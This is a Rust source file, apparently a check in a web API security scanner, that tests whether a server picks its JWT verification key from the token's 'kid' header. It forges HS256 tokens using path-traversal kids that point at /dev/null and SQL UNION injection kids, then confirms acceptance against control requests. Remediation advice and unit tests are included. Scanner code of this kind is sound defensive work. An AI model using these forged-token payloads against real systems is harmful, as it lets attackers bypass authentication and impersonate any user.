//! AUTH-013: the JWT's `kid` header chooses where the verification key comes
//! from. A verifier that reads the key from a file named by `kid` (joined to a
//! directory unsanitised) or from a database row selected by `kid` (pasted
//! into SQL) lets the token choose its own key: `../../dev/null` is an empty
//! file, so an empty HMAC key; `' UNION SELECT 'k'-- -` makes the key `k`.
//!
//! Proof: the credential's claims (new iat and jti) under a header whose
//! `kid` points at a key rampart knows, signed HS256 with that key, reach the
//! protected content, while the genuine token is accepted, the same token
//! with a garbled signature is refused, and the same manipulated header
//! signed with a random key is refused (controls): the server verified the
//! signature, with the key the `kid` led it to.

use super::OWASP;
use super::forge::{self, SETUP, Setup};
use super::jwt::{self, Hs, Signer};
use super::oracle::{PROBE, Verdict};
use crate::examples::{jwt_me, jwt_me_refused};
use async_trait::async_trait;
use rampart_engine::{Check, Context, Error, Outcome, ScanConfig};
use rampart_model::{Category, Confidence, Example, Finding, Rule, Severity};
use serde_json::{Map, Value};

pub struct KidManipulation;

static RULE: Rule = Rule {
    id: "AUTH-013",
    title: "JWT kid header chooses the verification key",
    category: Category::Authentication,
    severity: Severity::Critical,
    cwe: &[347, 22, 89],
    owasp: OWASP,
    summary: "The API looks up the key that verifies a JSON Web Token by the token's own `kid` header, in a way the token can steer: a path to any file (an empty one gives an empty HMAC key) or SQL that returns a key the attacker wrote. Anyone can then sign tokens for any user.",
    remediation: "Treat `kid` as an opaque name and look it up in a fixed map of your keys (or the JWKS you publish), refusing unknown values; never join it to a file path or paste it into SQL (bind it as a parameter if the keys live in a database). Pin the algorithm your keys use, and refuse empty or short HMAC keys.",
    references: &[
        "https://www.rfc-editor.org/rfc/rfc7515#section-4.1.4",
        "https://www.rfc-editor.org/rfc/rfc8725#section-3.10",
        "https://portswigger.net/web-security/jwt#injecting-self-signed-jwts-via-the-kid-parameter",
        "https://cwe.mitre.org/data/definitions/347.html",
    ],
    needs: &[],
    variants: &["path", "sql"],
    examples: &[Example {
        endpoint: "GET /api/v1/me",
        variant: Some("path"),
        instance: None,
        confidence: Confidence::Confirmed,
        description: "The JWT from the Authorization header is signed HS256 (its own kid is \"k1\"). Its claims (new iat and jti) under the header kid \"../../../../../../../../../../dev/null\" — a relative path to /dev/null, an empty file, so an empty HMAC key: the key is read from a file named by kid — signed HS256 with an empty key were accepted: GET /api/v1/me answered with the content it only gives to authenticated requests. The genuine token is accepted, the same token with a garbled signature is refused, and the same header signed with a random key is refused, so the server verified the signature with the key the kid led it to.",
        evidence: &[
            jwt_me("control: the genuine token is accepted"),
            jwt_me_refused("control: the same token with a garbled signature is refused"),
            jwt_me_refused("control: the manipulated kid with a random key is refused"),
            jwt_me("attack: the manipulated kid with the key it leads to is accepted"),
        ],
    }],
};

/// A `kid` that leads a verifier to a key rampart knows.
struct Steer {
    /// The finding's variant.
    variant: &'static str,
    kid: &'static str,
    /// The HMAC key the `kid` yields when the verifier follows it.
    key: &'static str,
    /// How the verifier got there, for the description.
    how: &'static str,
}

/// The manipulations tried, most common first.
const STEERS: &[Steer] = &[
    Steer {
        variant: "path",
        kid: "../../../../../../../../../../dev/null",
        key: "",
        how: "a relative path to /dev/null, an empty file, so an empty HMAC key: the key is read from a file named by kid",
    },
    Steer {
        variant: "path",
        kid: "/dev/null",
        key: "",
        how: "the absolute path /dev/null, an empty file, so an empty HMAC key: the key is read from a file named by kid",
    },
    Steer {
        variant: "sql",
        kid: "rampart-none' UNION SELECT 'rampart-kid-key'-- -",
        key: "rampart-kid-key",
        how: "SQL that closes the quoted kid and selects the constant 'rampart-kid-key': the key is read from a database query the kid is pasted into",
    },
    Steer {
        variant: "sql",
        kid: "0 UNION SELECT 'rampart-kid-key'-- -",
        key: "rampart-kid-key",
        how: "SQL that selects the constant 'rampart-kid-key' after an unquoted kid: the key is read from a database query the kid is pasted into",
    },
];

#[async_trait]
impl Check for KidManipulation {
    fn rule(&self) -> &'static Rule {
        &RULE
    }

    fn max_requests(&self, _: &ScanConfig) -> u64 {
        SETUP + (STEERS.len() as u64 + 2) * PROBE
    }

    async fn run(&self, ctx: &Context<'_>) -> Result<Outcome, Error> {
        let setup = match forge::start(ctx).await? {
            Ok(setup) => setup,
            Err(outcome) => return Ok(outcome),
        };
        let claims = forge::reissued(&setup.cred.jwt.claims);
        let mut found = Vec::new();
        for steer in STEERS {
            if found
                .iter()
                .any(|f: &Finding| f.variant.as_deref() == Some(steer.variant))
            {
                continue;
            }
            let header = steered(&setup.cred.jwt.header, steer.kid);
            let verdict = setup
                .attempt(ctx, &jwt::encode(&header, &claims, &hs256(steer.key)))
                .await?;
            if !verdict.accepted {
                continue;
            }
            let random = format!("rampart-{:032x}", rand::random::<u128>());
            let stranger = setup
                .attempt(ctx, &jwt::encode(&header, &claims, &hs256(&random)))
                .await?;
            if stranger.accepted {
                // Any signature passes under this kid: not a key the kid chose.
                continue;
            }
            found.push(finding(&setup, steer, verdict, stranger));
        }
        Ok(Outcome::Findings(found))
    }
}

fn hs256(secret: &str) -> Signer {
    Signer::Hmac(Hs::Hs256, secret.to_string())
}

/// The credential's header with `kid` in place of its own.
fn steered(header: &Map<String, Value>, kid: &str) -> Map<String, Value> {
    let mut header = header.clone();
    header.insert("kid".into(), Value::String(kid.to_string()));
    header
}

fn finding(setup: &Setup<'_>, steer: &Steer, verdict: Verdict, stranger: Verdict) -> Finding {
    let own = match setup.cred.jwt.header.get("kid").and_then(Value::as_str) {
        Some(kid) => format!("its own kid is \"{kid}\""),
        None => "it carries no kid of its own".to_string(),
    };
    let key = if steer.key.is_empty() {
        "an empty key".to_string()
    } else {
        format!("the key \"{}\"", steer.key)
    };
    let description = format!(
        "The JWT from {} is signed {} ({own}). Its claims (new iat and jti) under the header kid \"{}\" — {} — signed HS256 with {key} were accepted: {}. The genuine token is accepted, the same token with a garbled signature is refused, and the same header signed with a random key is refused, so the server verified the signature with the key the kid led it to.",
        setup.cred.place(),
        setup.cred.jwt.alg(),
        steer.kid,
        steer.how,
        setup.oracle.describe(),
    );
    let mut evidence = setup.controls();
    evidence.push(stranger.evidence("control: the manipulated kid with a random key is refused"));
    evidence.push(verdict.evidence("attack: the manipulated kid with the key it leads to is accepted"));
    Finding::new(&RULE, Confidence::Confirmed, setup.oracle.endpoint(), description)
        .with_variant(steer.variant)
        .with_evidence(evidence)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_kid_is_replaced_and_the_rest_kept() {
        let header = serde_json::json!({"alg": "RS256", "kid": "k1", "typ": "JWT"});
        let header = steered(header.as_object().unwrap(), "/dev/null");
        assert_eq!(header["kid"], "/dev/null");
        assert_eq!(header["typ"], "JWT");
        let token = jwt::encode(&header, &Map::new(), &hs256(""));
        let decoded = jwt::decode(&token).unwrap();
        assert_eq!(decoded.alg(), "HS256");
        assert_eq!(decoded.header["kid"], "/dev/null");
    }

    #[test]
    fn an_empty_key_signs_like_a_null_byte() {
        // HMAC pads keys with zeros: what a verifier reading an empty file computes.
        let input = "a.b";
        assert_eq!(Hs::Hs256.sign(b"", input), Hs::Hs256.sign(b"\0", input));
    }
}
